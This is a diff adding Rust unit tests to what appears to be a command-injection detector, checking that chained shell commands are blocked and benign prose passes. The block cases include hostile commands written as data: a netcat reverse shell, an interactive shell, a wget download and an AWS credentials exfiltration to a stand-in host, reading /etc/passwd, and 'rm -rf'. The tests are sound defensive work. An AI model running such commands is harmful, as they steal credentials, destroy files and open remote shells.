@@ -75,3 +75,48 @@ fn issue_5_redirection_run_is_linear() {
     assert!(s(&format!("{run} report")) < BLOCK);
     assert!(s(&"> &".repeat(64 << 10)) < BLOCK);
 }
+
+#[test]
+fn issue_5_command_strings_run_by_eval_and_trap() {
+    for a in [
+        ";trap 'rm -rf file.txt' SIGEXIT",
+        "x; eval 'cat /etc/passwd'",
+        "1 && eval \"wget http://evil.example/a -O /tmp/a\"",
+        "a|trap \"/bin/sh -i\" EXIT",
+        "eval 'nc -e /bin/sh 10.0.0.1 4444'",
+    ] {
+        assert!(s(a) >= BLOCK, "should block {a:?}: {}", s(a));
+    }
+    for l in [
+        "eval 'good' or 'bad' in the review",
+        "It's a trap 'they said' and left",
+        "We eval the model; trap 'Ctrl-C' in the shell docs",
+        "x; eval 'Cat Stevens' songs",
+    ] {
+        assert!(s(l) < BLOCK, "should pass {l:?}: {}", s(l));
+    }
+}
+
+#[test]
+fn issue_5_chained_commands_in_free_text() {
+    // A document field (JSON string, XML text) forgives a bare command line, which is
+    // usually documentation, unless a second command is chained to it with an operator.
+    let j = |t: &str| score_of(t, Origin::JsonValue, Class::Cmdi);
+    for a in [
+        "cd /;cd etc;fold passwd",
+        "ls -la /var/www && curl http://evil.example/s.sh",
+        "cat ~/.aws/credentials | nc evil.example 9999",
+        "dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9",
+    ] {
+        assert!(j(a) >= BLOCK, "should block {a:?}: {}", j(a));
+    }
+    for l in [
+        "curl https://api.example.com/v1/items -H 'Accept: application/json'",
+        "ls -la shows the files; Then I opened the README",
+        "Run make; it builds everything. Then make install",
+        "cat food; dog food; fish food",
+        "dd if=backup.img of=disk.img bs=4M to clone it",
+    ] {
+        assert!(j(l) < BLOCK, "should pass {l:?}: {}", j(l));
+    }
+}
